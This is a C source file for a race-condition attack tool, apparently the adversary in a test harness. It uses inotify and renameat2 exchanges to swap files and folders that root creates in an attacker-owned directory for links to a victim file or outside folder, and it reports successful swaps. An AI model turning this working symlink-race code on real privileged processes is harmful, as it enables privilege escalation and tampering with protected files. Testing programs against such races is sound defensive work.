// Attacks, as fast as it can, a folder that it owns while root works in it. Each file or folder that appears there
// is exchanged for a link to something outside; folders that stand there are exchanged to and fro.
//
//   folder-attacker HIDEOUT VICTIM OUTSIDE
//
// HIDEOUT is an empty folder of the attacker's on the same file system, for links and for what was exchanged.
// VICTIM is a file, OUTSIDE a folder, neither of them the attacker's. Reads lines from stdin:
//   go FOLDER    begins; says "ready" once the folder is watched
//   calm FOLDER  the same, but leaves the folders that stand there where they are
//   stop         ends; says how many exchanges succeeded since "go"
// Ends when stdin does.

#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#define MAX_FOLDERS 512
#define EXCHANGE 2 // RENAME_EXCHANGE

static const char *hideout, *victim, *outside;
static char folders[MAX_FOLDERS][PATH_MAX]; // by watch descriptor
static int last_folder, notifier = -1, swaps, to_pass;
static long exchanges, links;

static void attack(const char *folder, const char *name);

static int exchange(const char *a, const char *b) {
  return (int)syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, EXCHANGE);
}

// Makes a link in the hideout, a hard one now and then where the system allows that, and gives its path.
static const char *new_link(int to_folder) {
  static char path[PATH_MAX];
  snprintf(path, sizeof path, "%s/%ld", hideout, ++links);
  if (!to_folder && rand() % 4 == 0 && link(victim, path) == 0) return path;
  return symlink(to_folder ? outside : victim, path) == 0 ? path : NULL;
}

// Watches a folder and those below it. What a new one holds already has just appeared, too.
static void watch(const char *folder, int is_new) {
  int at = inotify_add_watch(notifier, folder, IN_CREATE | IN_MOVED_TO | IN_ONLYDIR | IN_DONT_FOLLOW);
  if (at < 0 || at >= MAX_FOLDERS) return;
  snprintf(folders[at], PATH_MAX, "%s", folder);
  if (at > last_folder) last_folder = at;
  DIR *dir = opendir(folder);
  for (struct dirent *entry; dir != NULL && (entry = readdir(dir)) != NULL;) {
    char path[PATH_MAX];
    if (strcmp(entry->d_name, ".") == 0 || strcmp(entry->d_name, "..") == 0) continue;
    if (is_new) attack(folder, entry->d_name);
    else if (entry->d_type == DT_DIR && snprintf(path, sizeof path, "%s/%s", folder, entry->d_name) < PATH_MAX)
      watch(path, 0);
  }
  if (dir != NULL) closedir(dir);
}

// A folder of root's can't leave the folder it is in, which would change its "..". It can change its name there.
static void exchange_beside(const char *folder, const char *path) {
  char beside[PATH_MAX];
  if (snprintf(beside, sizeof beside, "%s/.beside-%ld", folder, ++links) >= PATH_MAX) return;
  if (symlink(outside, beside) == 0 && exchange(beside, path) == 0) exchanges++;
}

// Passes some names: what always fails at its first one never comes to its second.
static void attack(const char *folder, const char *name) {
  char path[PATH_MAX];
  struct stat there;
  if (snprintf(path, sizeof path, "%s/%s", folder, name) >= PATH_MAX) return;
  if (lstat(path, &there) != 0 || S_ISLNK(there.st_mode)) return;
  if (to_pass-- > 0) {
    if (S_ISDIR(there.st_mode)) watch(path, 1);
    return;
  }
  to_pass = rand() % 3;
  const char *hidden = new_link(S_ISDIR(there.st_mode));
  if (hidden == NULL) return;
  if (exchange(hidden, path) == 0) exchanges++;
  else if (S_ISDIR(there.st_mode)) exchange_beside(folder, path);
}

static void swap_a_folder(void) {
  int at = 1 + rand() % (last_folder > 0 ? last_folder : 1);
  if (at < 2 || folders[at][0] == 0) return; // the first one is the arena itself
  const char *hidden = new_link(1);
  if (hidden == NULL || exchange(hidden, folders[at]) != 0) return;
  exchanges++;
  usleep((useconds_t)(rand() % 200));
  exchange(hidden, folders[at]);
}

static void heed_events(void) {
  char events[16384] __attribute__((aligned(8)));
  ssize_t length = read(notifier, events, sizeof events);
  for (ssize_t at = 0; at < length;) {
    struct inotify_event *event = (struct inotify_event *)(events + at);
    at += (ssize_t)(sizeof *event + event->len);
    if (event->len == 0 || event->wd <= 0 || event->wd >= MAX_FOLDERS) continue;
    if (event->mask & (IN_CREATE | IN_MOVED_TO)) attack(folders[event->wd], event->name);
  }
}

static void begin(const char *folder, int is_calm) {
  if (notifier >= 0) close(notifier);
  memset(folders, 0, sizeof folders);
  last_folder = 0;
  exchanges = 0;
  // In every other turn folders stay where they are, so that more of the victim's work is done.
  swaps = !is_calm && rand() % 2;
  to_pass = rand() % 2 ? 0 : rand() % 16;
  notifier = inotify_init1(IN_NONBLOCK | IN_CLOEXEC);
  watch(folder, 0);
}

int main(int count, char **arguments) {
  if (count != 4) return 2;
  hideout = arguments[1];
  victim = arguments[2];
  outside = arguments[3];
  setvbuf(stdout, NULL, _IOLBF, 0);
  fcntl(0, F_SETFL, fcntl(0, F_GETFL) | O_NONBLOCK);
  for (long round = 0, active = 0;; round++) {
    char line[PATH_MAX + 8];
    ssize_t length = read(0, line, sizeof line - 1);
    if (length == 0) return 0;
    if (length > 0) {
      line[length] = 0;
      line[strcspn(line, "\n")] = 0;
      int is_calm = strncmp(line, "calm ", 5) == 0;
      active = is_calm || strncmp(line, "go ", 3) == 0;
      if (active) begin(strchr(line, ' ') + 1, is_calm);
      if (active) puts("ready");
      else printf("%ld\n", exchanges);
    }
    if (!active) usleep(500);
    else {
      heed_events();
      if (swaps && round % 64 == 0) swap_a_folder();
    }
  }
}
